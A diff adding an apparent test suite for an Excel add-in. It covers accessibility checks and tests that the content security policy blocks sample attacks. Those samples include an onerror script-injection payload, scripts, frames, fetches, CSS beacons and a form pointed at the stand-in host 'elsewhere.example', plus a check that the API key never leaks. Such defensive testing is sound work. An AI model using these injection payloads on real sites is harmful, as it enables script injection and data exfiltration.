@@ -1,0 +1,294 @@
+import type { Frame } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { openAddIn } from './open-add-in.ts';
+import {
+  axeViolations,
+  button,
+  fill,
+  openActivity,
+  openScreen,
+  openSearch,
+  outcome,
+  putIntoTable,
+} from './pane.ts';
+import type { RunningAddIn, RunOptions } from './running-add-in.ts';
+import { sheet } from './sheet.ts';
+import { stops } from './tour.ts';
+
+const key = 'demo-paid-key';
+let addin: RunningAddIn;
+
+/** The pointer is moved away, because hovered controls have the system's selection colours. */
+async function violations(): Promise<string[]> {
+  await addin.page.mouse.move(0, 0);
+  return axeViolations(addin.pane);
+}
+
+/** Elements that overflow the pane to the right. */
+const overflow = (pane: Frame): Promise<string[]> =>
+  pane.evaluate(() => {
+    const width = document.documentElement.clientWidth;
+    const isClipped = (element: Element): boolean => {
+      for (let parent = element.parentElement; parent; parent = parent.parentElement) {
+        if (
+          getComputedStyle(parent).overflowX !== 'visible' &&
+          parent.getBoundingClientRect().right <= width + 1
+        ) {
+          return true;
+        }
+      }
+      return false;
+    };
+    return [...document.querySelectorAll('main *, header *, footer *')]
+      .filter((element) => element.getBoundingClientRect().right > width + 1 && !isClipped(element))
+      .map((element) => element.outerHTML.slice(0, 160));
+  });
+
+const setPaneWidth = (width: number) =>
+  addin.page.evaluate((pixels) => {
+    document.getElementById('pane')!.style.width = `${pixels}px`;
+  }, width);
+
+describe('accessibility:', () => {
+  afterEach(() => addin?.close());
+
+  const settings: [string, Partial<RunOptions>][] = [
+    ['light, in English', { locale: 'en-CA', colorScheme: 'light' }],
+    ['dark, in French', { locale: 'fr-CA', colorScheme: 'dark' }],
+  ];
+
+  test.each(settings)(
+    'no screen has violations or overflows between 320 and 800 px, %s',
+    async (_, options) => {
+      addin = await openAddIn({ key: 'demo-paid-key', viewport: { width: 1400, height: 900 }, ...options });
+      const found: Record<string, string[]> = {};
+      for (const { name, open } of stops) {
+        await open(addin);
+        const faults = await violations();
+        for (const width of [320, 800, 350]) {
+          await setPaneWidth(width);
+          faults.push(...(await overflow(addin.pane)).map((html) => `at ${width} px: ${html}`));
+        }
+        if (faults.length > 0) found[name] = faults;
+      }
+      expect(found).toEqual({});
+      // No page needs what its content security policy blocks.
+      expect(addin.blocked).toEqual([]);
+    },
+  );
+
+  test('high contrast uses the user’s colours on every screen, without violations', async () => {
+    addin = await openAddIn({ key: 'demo-paid-key' });
+    const { page, pane } = addin;
+    await page.emulateMedia({ forcedColors: 'active' });
+    const background = () =>
+      pane.evaluate(() => {
+        const provider = document.querySelector('.fui-FluentProvider')!;
+        return getComputedStyle(provider).getPropertyValue('--colorNeutralBackground1').trim();
+      });
+    await expect.poll(background).toBe('#000000');
+    const found: Record<string, string[]> = {};
+    for (const { name, open } of stops) {
+      await open(addin);
+      const faults = await violations();
+      if (faults.length > 0) found[name] = faults;
+    }
+    expect(found).toEqual({});
+  });
+});
+
+/** The directive of the content security policy that blocks an attempt in a page; `nothing` if none does. */
+const blockedBy = (page: Frame, attempt: () => void): Promise<string> =>
+  page.evaluate(
+    (text) =>
+      new Promise<string>((resolve) => {
+        document.addEventListener(
+          'securitypolicyviolation',
+          ({ effectiveDirective }) => resolve(effectiveDirective),
+          { once: true },
+        );
+        setTimeout(() => resolve('nothing'), 1500);
+        // Later, on the page's own behalf: scripts of the test's connection may do more.
+        setTimeout(() => (window as unknown as { attempts: Record<string, () => void> }).attempts[text]!());
+      }),
+    attempt.name,
+  );
+
+/** What hostile data or scripts may attempt. */
+const attempts = {
+  inlineScript() {
+    const script = document.createElement('script');
+    script.textContent = 'window.broken = true';
+    document.body.append(script);
+  },
+  foreignScript() {
+    const script = document.createElement('script');
+    script.src = 'https://elsewhere.example/script.js';
+    document.body.append(script);
+  },
+  handler() {
+    const image = document.createElement('div');
+    image.innerHTML = '<img src="data:," onerror="window.broken = true">';
+    document.body.append(image);
+  },
+  evaluated() {
+    try {
+      new Function('window.broken = true')();
+    } catch {
+      // Blocked as expected; the event names the directive.
+    }
+  },
+  frame() {
+    const frame = document.createElement('iframe');
+    frame.src = 'https://elsewhere.example/';
+    document.body.append(frame);
+  },
+  image() {
+    new Image().src = 'https://elsewhere.example/pixel.png';
+  },
+  clearText() {
+    fetch('http://elsewhere.example/').catch(() => undefined);
+  },
+  styles() {
+    const style = document.createElement('style');
+    style.textContent = 'input { background: url(https://elsewhere.example/) }';
+    document.body.append(style);
+  },
+  styleOfAnElement() {
+    const element = document.createElement('div');
+    element.innerHTML = '<i style="background: url(https://elsewhere.example/)"></i>';
+    document.body.append(element);
+  },
+  form() {
+    const form = document.createElement('form');
+    form.action = 'https://elsewhere.example/';
+    // Not in the frame itself, which the browser would replace by an error page.
+    form.target = '_blank';
+    document.body.append(form);
+    form.submit();
+  },
+};
+
+const directives: Record<keyof typeof attempts, string> = {
+  inlineScript: 'script-src-elem',
+  foreignScript: 'script-src-elem',
+  handler: 'script-src-attr',
+  evaluated: 'script-src',
+  frame: 'frame-src',
+  image: 'img-src',
+  clearText: 'connect-src',
+  styles: 'style-src-elem',
+  styleOfAnElement: 'style-src-attr',
+  form: 'form-action',
+};
+
+const attemptsScript = (): string =>
+  `window.attempts = {${Object.values(attempts)
+    .map((attempt) => attempt.toString())
+    .join(',')}}`;
+
+describe('security:', () => {
+  const requested: { url: string; body: string }[] = [];
+  const logged: string[] = [];
+
+  beforeAll(async () => {
+    addin = await openAddIn({ key });
+    addin.page
+      .context()
+      .on('request', (request) => requested.push({ url: request.url(), body: request.postData() ?? '' }));
+    addin.page.on('console', (message) => logged.push(message.text()));
+  });
+  afterAll(() => addin?.close());
+
+  describe('the workbook’s page', () => {
+    // The grid sets styles.
+    const allowed = ['styles', 'styleOfAnElement'];
+    const forbidden = (Object.keys(attempts) as (keyof typeof attempts)[]).filter(
+      (name) => !allowed.includes(name),
+    );
+    test.each(forbidden)('blocks %s', async (name) => {
+      await addin.page.evaluate(attemptsScript());
+      expect(await blockedBy(addin.page.mainFrame(), attempts[name])).toBe(directives[name]);
+      expect(await addin.page.evaluate(() => 'broken' in window)).toBe(false);
+    });
+  });
+
+  describe('the pane’s page', () => {
+    test.each(Object.keys(attempts) as (keyof typeof attempts)[])('blocks %s', async (name) => {
+      await addin.pane.evaluate(attemptsScript());
+      expect(await blockedBy(addin.pane, attempts[name])).toBe(directives[name]);
+      expect(await addin.pane.evaluate(() => 'broken' in window)).toBe(false);
+    });
+  });
+
+  test('the help page runs no scripts', async () => {
+    const page = await addin.page.context().newPage();
+    await page.goto(`${addin.address}/addin/help.html`);
+    await page.evaluate(attemptsScript());
+    for (const name of Object.keys(attempts) as (keyof typeof attempts)[]) {
+      expect(await blockedBy(page.mainFrame(), attempts[name]), name).toBe(directives[name]);
+    }
+    await page.close();
+  });
+
+  test('the key is only where it is stored, after use of all features', async () => {
+    const { pane, page } = addin;
+    await openSearch(pane);
+    await fill(pane, 'municipality', 'calgary');
+    await fill(pane, 'maxRows', '20');
+    await putIntoTable(pane);
+    await outcome(pane)
+      .getByText(/20 rows/)
+      .waitFor();
+    await sheet(page).write('Permits!J1', '=CDATA.GEOCODE("nowhere at all 99999")');
+    await sheet(page).settled();
+    await openActivity(pane);
+    await openScreen(pane, 'connect');
+    await button(pane, /^Change$/).click();
+    const found = await pane.evaluate(async (secret) => {
+      const stores = [localStorage, sessionStorage].flatMap((store) =>
+        Object.entries(store).filter(([, value]) => String(value).includes(secret)),
+      );
+      const workbook = await Excel.run(async (context) => {
+        const { settings, worksheets, customXmlParts } = context.workbook;
+        settings.load('items/key,items/value');
+        worksheets.load('items/name');
+        customXmlParts.load('items/id');
+        await context.sync();
+        const used = worksheets.items.map((one) => one.getUsedRange().load('formulas'));
+        const parts = customXmlParts.items.map((part) => part.getXml());
+        await context.sync();
+        return JSON.stringify([
+          settings.items.map((setting) => [setting.key, setting.value as unknown]),
+          used.map(({ formulas }) => formulas),
+          parts.map(({ value }) => value),
+        ]);
+      });
+      const database = await new Promise<IDBDatabase>((resolve, reject) => {
+        const opening = indexedDB.open('cdata.answers');
+        opening.onsuccess = () => resolve(opening.result);
+        opening.onerror = () => reject(new Error(String(opening.error)));
+      });
+      const responses = await new Promise<string>((resolve) => {
+        const store = database.transaction('answers').objectStore('answers');
+        const [keys, all] = [store.getAllKeys(), store.getAll()];
+        store.transaction.oncomplete = () => resolve(JSON.stringify([keys.result, all.result]));
+      });
+      database.close();
+      return {
+        stores: stores.map(([name]) => name),
+        page: document.documentElement.outerHTML.includes(`value="${secret}"`),
+        workbook,
+        responses,
+      };
+    }, key);
+    expect(found.stores).toEqual(['cdata.connection']);
+    expect(found.page).toBe(false);
+    expect(found.workbook).toContain('calgary');
+    expect(found.workbook).not.toContain(key);
+    expect(found.responses).not.toContain(key);
+    expect(requested.length).toBeGreaterThan(0);
+    expect(requested.filter(({ url, body }) => url.includes(key) || body.includes(key))).toEqual([]);
+    expect(logged.filter((text) => text.includes(key))).toEqual([]);
+  });
+});
